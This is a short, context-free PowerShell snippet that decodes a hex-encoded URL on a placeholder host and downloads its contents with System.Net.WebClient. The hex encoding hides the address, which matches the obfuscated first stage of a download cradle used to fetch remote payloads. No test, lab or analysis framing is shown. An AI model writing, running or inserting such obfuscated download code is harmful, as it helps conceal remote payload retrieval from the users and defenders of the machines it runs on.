$h='687474703a2f2f612e6578616d706c652f702f782e747874';$o='';for($i=0;$i -lt $h.Length;$i+=2){$o+=[char][convert]::ToByte($h.Substring($i,2),16)}
$wc = New-Object System.Net.WebClient
$wc.DownloadString($o)
